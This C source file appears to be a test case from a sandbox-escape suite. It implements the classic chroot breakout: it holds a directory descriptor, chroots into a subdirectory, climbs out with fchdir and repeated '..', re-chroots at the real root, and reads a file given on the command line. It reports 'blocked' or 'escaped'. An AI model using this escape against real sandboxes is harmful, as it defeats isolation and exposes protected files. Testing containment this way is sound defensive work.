/* The classic: keep a descriptor of the working directory, change the root beneath it, climb up, change back. */
#include "attack.h"

int main(int argc, char **argv)
{
    char secret[16];
    int before = open(".", O_RDONLY | O_DIRECTORY);
    mkdir("attack-root", 0700);
    if (argc < 2 || before < 0 || chroot("attack-root") < 0)
        return blocked();
    if (fchdir(before) < 0)
        return blocked();
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return blocked();
    if (chroot(".") < 0)
        return blocked();
    int fd = open(argv[1], O_RDONLY);
    if (fd >= 0 && read(fd, secret, sizeof secret) > 0)
        return escaped("read %s", argv[1]);
    return blocked();
}
